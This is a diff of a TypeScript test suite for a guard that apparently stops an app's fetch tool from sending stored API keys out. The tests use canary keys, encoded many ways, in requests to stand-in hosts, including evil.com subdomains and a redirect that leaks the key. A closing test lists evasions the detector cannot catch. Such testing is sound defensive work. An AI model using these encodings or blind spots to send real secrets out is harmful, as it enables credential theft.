@@ -1,8 +1,10 @@
-import { benchEgress, textOf } from '../support/egress-bench';
-import { carriesSecret } from '@/tools/find-secret';
+import { benchToolFetch, textOf } from '../support/tool-fetch-bench';
+import { carriesSecret } from '@/domain/secrets/find-secret';
 import { startRawServer, type RawServer } from '../support/raw-server';
 
 const KEY = 'sk-CANARY-7f3Kq9_ZxW2mB8vT4/aa+Lp0';
+/** As long as those of today. */
+const LONG_KEY = 'sk-proj-CANARY0q8ZkW3nTyB5uEvR1xHcLm7PdJf4GsAa9oIi2KtYb6';
 
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 const percent = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join('');
@@ -30,6 +32,9 @@ const spellings: [string, string][] = [
   ['in hexadecimal with colons', hex(KEY).replace(/(..)/g, '$1:')],
   ['with blanks between', [...KEY].join(' ')],
   ['with dots between', [...KEY].join('.')],
+  ['backwards', [...KEY].reverse().join('')],
+  ['cut in two with words between', `${LONG_KEY.slice(0, 30)} and then ${LONG_KEY.slice(30)}`],
+  ['without its beginning', LONG_KEY.slice(20)],
   ['in full-width letters', [...KEY].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')],
 ];
 
@@ -47,7 +52,7 @@ describe.each(spellings)('a stored key %s', (_how, spelling) => {
     ['the body', { method: 'POST', body: spelling }],
     ['a JSON body', { method: 'POST', body: JSON.stringify({ deep: [{ note: spelling }] }) }],
   ])('does not leave in %s', async (_where, change) => {
-    const { ask, asked } = benchEgress({ 'site.com': server }, { secrets: ['another-secret-1', KEY] });
+    const { ask, asked } = benchToolFetch({ 'site.com': server }, { secrets: ['another-secret-1', KEY, LONG_KEY] });
     const error: Error = await ask('https://site.com/', change).then(
       () => new Error('it was sent'),
       (thrown: Error) => thrown,
@@ -60,7 +65,7 @@ describe.each(spellings)('a stored key %s', (_how, spelling) => {
 
 it('does not leave in the name of a host', async () => {
   const key = 'sk-canary-7f3kq9zxw2mb8vt4';
-  const { ask, asked } = benchEgress({}, { secrets: [key] });
+  const { ask, asked } = benchToolFetch({}, { secrets: [key] });
   for (const host of [key, key.toUpperCase(), 'sk-canary.7f3kq9.zxw2mb8vt4', Buffer.from(key).toString('hex')]) {
     await expect(ask(`https://${host}.evil.com/`)).rejects.toThrow('stored in this app');
   }
@@ -68,7 +73,7 @@ it('does not leave in the name of a host', async () => {
 });
 
 it('does not leave for a granted host either', async () => {
-  const { ask } = benchEgress({}, { secrets: [KEY], grants: [new URL(server.url).host] });
+  const { ask } = benchToolFetch({}, { secrets: [KEY], grants: [new URL(server.url).host] });
   await expect(ask(server.url, { method: 'POST', body: KEY })).rejects.toThrow('stored in this app');
   expect(server.requests).toEqual([]);
 });
@@ -77,24 +82,32 @@ it('does not leave when a redirect has learnt it from somewhere', async () => {
   const evil = await startRawServer((response) => {
     response.writeHead(302, { location: `https://site.com/?k=${encodeURIComponent(KEY)}` }).end();
   });
-  const { ask } = benchEgress({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
+  const { ask } = benchToolFetch({ 'evil.com': evil, 'site.com': server }, { secrets: [KEY] });
   await expect(ask('https://evil.com/')).rejects.toThrow('stored in this app');
   expect(server.requests).toEqual([]);
   await evil.stop();
 });
 
+it('does not take the head of one signed token for that of another', () => {
+  const head = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9';
+  const stored = `${head}.eyJzdWIiOiJjYW5hcnkifQ.q8ZkW3nTyB5uEvR1xHcLm7PdJf4GsAa9`;
+  expect(carriesSecret(`${head}.eyJzdWIiOiJzb21lYm9keSJ9.kW2pQ9sLmN4vB7xC1zA5`, [stored])).toBe(false);
+  expect(carriesSecret(`x ${stored.slice(40)} x`, [stored])).toBe(true);
+});
+
 it('lets everything else through, also when the key is a short stand-in or part of it is mentioned', async () => {
-  const { ask } = benchEgress({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
+  const { ask } = benchToolFetch({ 'site.com': server }, { secrets: [KEY, 'ollama', ''] });
   const body = `How do I use a key like sk-CANARY with ollama? ${base64('sk-CANARY')} ${hex('sk-CANARY')} %zz %`;
   expect(textOf(await ask('https://site.com/?q=sk-CANARY-7f3', { method: 'POST', body }))).toBe('ok');
   expect(server.requests[0]?.body).toBe(body);
 });
 
-it('reports honestly what it cannot see: encryption, and halves in two requests', () => {
+it('reports honestly what it cannot see: encryption, small pieces, and pieces in several requests', () => {
   const rot13 = KEY.replace(/[a-z]/gi, (c) =>
     String.fromCharCode((((c.charCodeAt(0) & 31) + 12) % 26) + (c < 'a' ? 65 : 97)),
   );
   expect(carriesSecret(rot13, [KEY])).toBe(false);
-  expect(carriesSecret([...KEY].reverse().join(''), [KEY])).toBe(false);
-  expect(carriesSecret(KEY.slice(0, 17), [KEY]) || carriesSecret(KEY.slice(17), [KEY])).toBe(false);
+  const pieces = LONG_KEY.match(/.{1,12}/g) ?? [];
+  expect(carriesSecret(pieces.join(' and '), [LONG_KEY])).toBe(false);
+  expect(pieces.some((piece) => carriesSecret(piece, [LONG_KEY]))).toBe(false);
 });
